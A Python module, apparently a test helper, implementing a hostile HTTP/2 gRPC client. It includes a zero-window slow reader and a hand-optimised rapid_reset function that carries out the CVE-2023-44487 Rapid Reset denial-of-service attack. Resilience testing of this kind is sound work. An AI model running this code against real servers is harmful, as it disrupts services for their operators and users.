"""A raw HTTP/2 client (the `h2` package) that speaks just enough gRPC to misbehave: the
frames a hostile client sends, without grpc's flow control, retries or courtesy."""

from __future__ import annotations

import socket
import struct

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hpack import Encoder, NeverIndexedHeaderTuple


def grpc_message(body: bytes) -> bytes:
    """One gRPC length-prefixed message (uncompressed)."""
    return struct.pack(">?I", False, len(body)) + body


class RawConnection:
    """One TCP connection with the HTTP/2 preface and SETTINGS sent. `window` sets the
    client's SETTINGS_INITIAL_WINDOW_SIZE: 0 lets the server send no response bytes at all
    (a reader that never reads)."""

    def __init__(self, host: str, port: int, window: int | None = None) -> None:
        self.authority = f"{host}:{port}"
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.conn.initiate_connection()
        if window is not None:
            self.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.closed = False  # the server ended the connection (GOAWAY or EOF)
        self.flush()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def open_stream(self, path: str, body: bytes | None = None) -> int:
        """HEADERS for a gRPC call to `path`; with `body`, its message and END_STREAM."""
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(
            stream_id,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", self.authority),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ],
            end_stream=False,
        )
        if body is not None:
            self.conn.send_data(stream_id, grpc_message(body), end_stream=True)
        return stream_id

    def drain(self) -> list[h2.events.Event]:
        """Read what the server sent, without blocking; acknowledge its SETTINGS."""
        events: list[h2.events.Event] = []
        self.sock.setblocking(False)
        try:
            while True:
                try:
                    data = self.sock.recv(65536)
                except (BlockingIOError, InterruptedError):
                    break
                except OSError:
                    self.closed = True
                    break
                if not data:
                    self.closed = True
                    break
                try:
                    events += self.conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    self.closed = True
                    break
        finally:
            self.sock.setblocking(True)
        if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
            self.closed = True
        if not self.closed:
            try:
                self.flush()
            except OSError:
                self.closed = True
        return events

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(conn: RawConnection, path: str, streams: int) -> int:
    """Open `streams` calls to `path` and reset each at once (HEADERS then RST_STREAM CANCEL:
    CVE-2023-44487), in one write built by hand so that the client is not the bottleneck: the
    header block uses no HPACK dynamic table, so the same bytes serve every stream. What the
    server sends back is read and dropped; `conn` is of no use to h2 afterwards. Returns the
    streams sent (fewer once the server ends the connection)."""
    block = Encoder().encode(
        [
            NeverIndexedHeaderTuple(k, v)
            for k, v in (
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", conn.authority),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            )
        ]
    )
    first = (conn.conn.highest_outbound_stream_id or -1) + 2  # client streams are odd
    headers = struct.pack(">I", len(block))[1:] + bytes([0x1, 0x4])  # HEADERS, END_HEADERS
    rst = struct.pack(">I", 4)[1:] + bytes([0x3, 0x0])
    frames = bytearray()
    for stream_id in range(first, first + 2 * streams, 2):
        sid = struct.pack(">I", stream_id)
        frames += headers + sid + block + rst + sid + struct.pack(">I", 8)
    conn.conn.highest_outbound_stream_id = first + 2 * (streams - 1)
    try:
        conn.sock.sendall(frames)
    except OSError:
        conn.closed = True
        return 0
    conn.sock.setblocking(False)
    try:
        while conn.sock.recv(1 << 20):
            pass
        conn.closed = True  # (EOF)
    except (BlockingIOError, InterruptedError):
        pass
    except OSError:
        conn.closed = True
    finally:
        conn.sock.setblocking(True)
    return streams
